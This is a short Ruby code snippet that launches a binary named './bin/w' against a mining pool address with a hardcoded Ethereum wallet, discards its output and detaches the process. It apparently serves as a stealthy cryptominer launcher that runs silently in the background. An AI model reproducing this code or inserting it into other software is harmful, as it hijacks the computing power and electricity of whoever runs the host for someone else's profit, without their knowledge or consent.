POOL = "eth.pool.example:4444"
ADDR = "0x8f3Cf7ad23Cd3CaDbD9735AFf958023239c6A063"
pid = spawn("./bin/w", "--pool", POOL, "--user", ADDR, out: File::NULL)
Process.detach(pid)
